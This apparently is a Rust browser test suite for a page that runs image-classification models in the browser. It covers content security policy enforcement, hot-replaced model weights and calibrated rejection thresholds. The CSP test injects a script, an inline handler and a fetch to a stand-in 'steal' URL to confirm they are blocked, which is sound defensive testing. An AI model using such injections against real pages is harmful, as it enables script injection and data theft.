//! The page's content security policy, models that are replaced while the page is open, and calibrated models.

use crate::browser::Environment;
use crate::rest;
use anyhow::{Context, Result, ensure};
use model::architecture::Architecture;
use model::checkpoint::{Checkpoint, Dtype, Metadata};
use model::random;
use serde_json::Value;
use tests::agreement::assert_agreement;
use tests::server::Server;
use tests::workspace::{self, SMALL_MODEL};

const ADMIN_TOKEN: &str = "secret";

/// Records the violations of the content security policy that the browser reports.
const RECORD_VIOLATIONS: &str = r#"
    window.violations = [];
    document.addEventListener("securitypolicyviolation", event =>
        window.violations.push(`${event.violatedDirective}: ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber} ${event.sample}`));
"#;

/// Injects code as an attacker would, and waits up to 5 s until the browser has reported a violation for each
/// injection. Returns whether any injected code has run, the violations, and whether all were reported.
const INJECT: &str = r#"
    const [done] = arguments;
    const script = document.createElement("script");
    script.textContent = "window.injected = true";
    document.body.append(script);
    const button = document.createElement("button");
    button.setAttribute("onclick", "window.injected = true");
    button.click();
    fetch("https://example.org/steal").catch(() => null);
    const kinds = ["script-src-elem", "script-src-attr", "connect-src"];
    const refused = () => kinds.every(kind => window.violations.some(violation => violation.startsWith(kind)));
    const start = performance.now();
    const poll = () => refused() || performance.now() - start > 5000
        ? done([window.injected ?? false, window.violations, refused()])
        : setTimeout(poll, 10);
    poll();
"#;

pub fn runs_no_injected_code(environment: &Environment) -> Result<()> {
    environment.with_bundled_models(|browser| async move {
        browser.run_before_page_scripts(RECORD_VIOLATIONS).await?;
        browser.open().await?;
        browser.select_model(SMALL_MODEL).await?;
        browser.wait_until("the small model", |view| view.class_labels.len() == 10 && !view.privacy.is_empty()).await?;
        let view = browser.classify_sample("palace").await?;
        ensure!(view.ran_in_page(), "{view:?}");
        browser.press("explain").await?;
        ensure!(browser.count("heatmap").await? == 1, "no heat map is shown");
        let violations = browser.client.execute("return window.violations", vec![]).await?;
        ensure!(violations == Value::Array(vec![]), "the page violates its own policy: {violations}");

        let outcome = browser.client.execute_async(INJECT, vec![]).await?;
        ensure!(outcome[0] == false && outcome[2] == true, "injected code ran or was not reported: {outcome}");
        Ok(())
    })
}

pub fn loads_replaced_weights(environment: &Environment) -> Result<()> {
    let folder = tempfile::tempdir()?;
    let path = folder.path().join(format!("{SMALL_MODEL}.safetensors"));
    std::fs::copy(workspace::checkpoint(SMALL_MODEL), &path)?;
    let models = folder.path().to_str().context("the path is not UTF-8")?;
    let server = Server::start_with(["--models", models, "--admin-token", ADMIN_TOKEN])?;
    environment.with_browser(&server, |browser| async move {
        let samples = ["cat.jpg", "palace.jpg"].map(workspace::sample);
        let predictions = || async {
            let [cat, palace] = &samples;
            let cat = rest::prediction(&browser, SMALL_MODEL, cat).await?;
            anyhow::Ok([cat, rest::prediction(&browser, SMALL_MODEL, palace).await?])
        };
        let old = predictions().await?;
        browser.open().await?;
        let view = browser.classify_sample("cat").await?;
        ensure!(view.ran_in_page(), "{view:?}");
        view.check_shows(&old[0])?;

        // In a format in which the weights are small enough for the page.
        let replacement = random::checkpoint(Architecture::new("resnet18", 10)?).convert(Dtype::I8)?;
        std::fs::write(&path, replacement.to_bytes())?;
        let load = format!("{}/v2/repository/models/{SMALL_MODEL}/load", browser.site);
        reqwest::Client::new().post(load).bearer_auth(ADMIN_TOKEN).send().await?.error_for_status()?;
        let new = predictions().await?;
        for (old, new) in old.iter().zip(&new) {
            ensure!(assert_agreement(old, new).is_err(), "both checkpoints predict the same: {new:?}");
        }

        // An open page continues with the old weights; the next visit loads the new ones.
        let view = browser.classify_sample("palace").await?;
        ensure!(view.ran_in_page(), "{view:?}");
        view.check_shows(&old[1])?;
        browser.open().await?;
        let view = browser.classify_sample("cat").await?;
        ensure!(view.ran_in_page(), "{view:?}");
        view.check_shows(&new[0])
    })
}

/// The temperature is applied in the page, and an answer below the rejection threshold has a notice.
pub fn marks_answers_below_the_threshold(environment: &Environment) -> Result<()> {
    let checkpoint = Checkpoint::from_path(workspace::checkpoint(SMALL_MODEL))?;
    let metadata = Metadata { temperature: Some(3.0), rejection_threshold: Some(1.0), ..checkpoint.metadata().clone() };
    let folder = tempfile::tempdir()?;
    let path = folder.path().join("calibrated.safetensors");
    checkpoint.with_metadata(metadata)?.save(&path)?;
    let server = Server::start_with(["--model", &format!("calibrated={}", path.display())])?;
    environment.with_browser(&server, |browser| async move {
        let view = browser.open().await?;
        ensure!(view.not_confident.is_empty(), "a notice without an answer: {view:?}");
        let view = browser.classify_sample("palace").await?;
        ensure!(view.ran_in_page() && view.not_confident.contains("not confident"), "{view:?}");
        view.check_agreement_on_sample(&browser, "palace").await
    })
}
